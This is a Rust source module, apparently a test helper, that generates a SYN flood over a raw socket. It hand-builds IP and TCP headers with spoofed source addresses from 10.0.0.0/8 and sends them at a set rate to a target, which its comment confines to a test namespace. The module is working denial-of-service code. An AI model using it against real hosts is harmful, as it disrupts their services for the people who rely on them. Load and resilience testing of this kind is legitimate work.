//! A flood of SYNs from unused addresses, through a raw socket.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::sleep;
use std::time::{Duration, Instant};

use rustix::net::{AddressFamily, Protocol, SendFlags, SocketType, sendto, socket};

/// Sends `per_second` SYNs a second to `target`, from all over 10.0.0.0/8, until `stop` is set. The
/// target must be in a namespace of the test.
pub(crate) fn flood(target: SocketAddrV4, per_second: u32, stop: &AtomicBool) {
    // The kernel fills in the length and the checksum of the IP header.
    let raw = Protocol::from_raw(IPPROTO_RAW.try_into().expect("not 0"));
    let socket = socket(AddressFamily::INET, SocketType::RAW, Some(raw)).expect("a raw socket");
    let began = Instant::now();
    let mut sent = 0;
    while !stop.load(Ordering::Relaxed) {
        let due = (began.elapsed().as_secs_f64() * f64::from(per_second)) as u32;
        while sent < due {
            let [high, middle, low] = [sent >> 16, sent >> 8, sent].map(|part| part as u8);
            let packet = syn(Ipv4Addr::new(10, high, middle, low), target, sent);
            // The link disappears when the run is over.
            if sendto(&socket, &packet, SendFlags::empty(), &target).is_err() {
                return;
            }
            sent += 1;
        }
        sleep(Duration::from_millis(2));
    }
}

/// Builds an IP header and a TCP header without options (RFC 791, RFC 9293).
fn syn(source: Ipv4Addr, target: SocketAddrV4, sequence: u32) -> [u8; 40] {
    let mut packet = [0; 40];
    let (ip, tcp) = packet.split_at_mut(20);
    ip[0] = 0x45;
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    ip[12..16].copy_from_slice(&source.octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    tcp[0..2].copy_from_slice(&(1_024 + (sequence % 60_000) as u16).to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = FLAG_SYN;
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    let pseudo = [&ip[12..20], &[0, IPPROTO_TCP, 0, 20], &*tcp].concat();
    let words = pseudo.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let sum: u32 = words.sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    let folded = (folded & 0xffff) + (folded >> 16);
    tcp[16..18].copy_from_slice(&(!(folded as u16)).to_be_bytes());
    packet
}

const IPPROTO_TCP: u8 = 6;
const IPPROTO_RAW: u32 = 255;
const FLAG_SYN: u8 = 2;
